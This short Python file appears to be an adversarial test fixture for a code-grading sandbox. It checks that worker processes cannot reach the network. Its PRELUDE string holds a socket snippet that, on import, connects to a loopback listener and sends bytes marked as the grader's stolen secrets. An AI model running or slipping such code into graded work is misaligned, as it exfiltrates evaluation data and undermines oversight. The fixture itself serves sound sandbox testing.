"""At import, connects to 127.0.0.1:47931 (where tests/self/test_adversarial.py listens) to send what it found;
then compute_dk is right. The listener must never see a connection: a worker has no network, not even the
host's loopback."""

SCORES = {}
HINT = ""
PRELUDE = '''
import socket as _socket
try:
    with _socket.create_connection(("127.0.0.1", 47931), timeout=2) as _s:
        _s.sendall(b"stolen: the grader's secrets")
except OSError:
    pass
'''
